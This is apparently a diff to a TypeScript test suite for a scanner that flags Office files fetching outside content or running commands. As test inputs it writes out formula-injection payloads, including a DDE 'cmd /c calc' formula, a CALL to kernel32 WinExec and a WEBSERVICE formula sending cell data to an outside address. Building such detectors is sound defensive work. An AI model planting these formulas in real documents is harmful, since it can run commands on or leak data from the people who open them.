@@ -89,12 +89,9 @@ describe('what an office document takes from elsewhere', () => {
         `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${RELATIONSHIPS}/${type}" Target="${target}" ${mode}/></Relationships>`,
       ),
     })
-  const main = (body: string): Uint8Array =>
-    changed({
-      'word/document.xml': text(
-        `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${body}</w:p></w:body></w:document>`,
-      ),
-    })
+  const wordXml = (body: string): string =>
+    `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${body}</w:p></w:body></w:document>`
+  const main = (body: string): Uint8Array => changed({ 'word/document.xml': text(wordXml(body)) })
   const run = (words: string): string => `<w:r><w:instrText xml:space="preserve">${words}</w:instrText></w:r>`
   const field = (...runs: string[]): string =>
     `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map(run).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`
@@ -130,6 +127,25 @@ describe('what an office document takes from elsewhere', () => {
       'a field in another one',
       main(`<w:r><w:fldChar w:fldCharType="begin"/></w:r>${run(' IF 1=1 ')}${field('LINK Excel.Sheet.8 a.xlsx')}`),
     ],
+    ['a field in a part of another type', changed({ 'word/notes.xml': text(wordXml(field('DDE ', 'a b c'))) })],
+    ...[
+      '_xlfn.WEBSERVICE("https://example.com/?"&amp;A1)',
+      'IF(A1,_xlfn.IMAGE(B1),"")',
+      'RTD("server",,"topic")',
+      '_xlfn._xlws.PY(1,1)',
+      'SUM(1, webservice (A1))',
+      'CALL("kernel32","WinExec","JCJ","calc",0)',
+      "cmd|' /c calc'!A0",
+    ].map((formula): [string, Uint8Array] => [`the formula ${formula}`, sampleXlsx(`<f>${formula}</f><v>1</v>`)]),
+    ['a formula cut in pieces', sampleXlsx('<f>_xlfn.WEB<!-- -->SERVICE<![CDATA[(A1)]]></f>')],
+    [
+      'a name for a formula',
+      sampleXlsx('<v>1</v>', {
+        'xl/names.xml': text(
+          '<workbook xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"><definedNames><definedName name="rate">_xlfn.WEBSERVICE(A1)</definedName></definedNames></workbook>',
+        ),
+      }),
+    ],
     ...['externalLink', 'connections', 'queryTable'].map((type): [string, Uint8Array] => [
       `a part of the type ${type}`,
       alsoOfType(`application/vnd.openxmlformats-officedocument.spreadsheetml.${type}+xml`),
@@ -144,6 +160,10 @@ describe('what an office document takes from elsewhere', () => {
     ['a template on the disk of whoever wrote it', related('attachedTemplate', 'file:///C:\\Users\\Anna\\Templates\\Letter.dotx')],
     ['the number of the page', main(field(' PAGE '))],
     ['a link as a field', main(field(' HYPERLINK "https://example.com/" '))],
+    ...['SUM(A1:B2)+TODAY()', '"WEBSERVICE(" &amp; "a|b"', "'a|b'!A1*MYIMAGE(1)", 'HYPERLINK("https://example.com/")', 'IMSUM(A1)'].map(
+      (formula): [string, Uint8Array] => [`the formula ${formula}`, sampleXlsx(`<f>${formula}</f><v>1</v>`)],
+    ),
+    ['data of somebody else', sampleXlsx('<v>1</v>', { 'customXml/item1.xml': text('<f xmlns="urn:example">WEBSERVICE(a|b)</f>') })],
     ['words with which a field could begin', main('<w:r><w:t>LINK and DATABASE are words</w:t></w:r>')],
   ])('is none of it: %s', async (_, bytes) => expect(await says(bytes)).toBe('accepted'))
 })
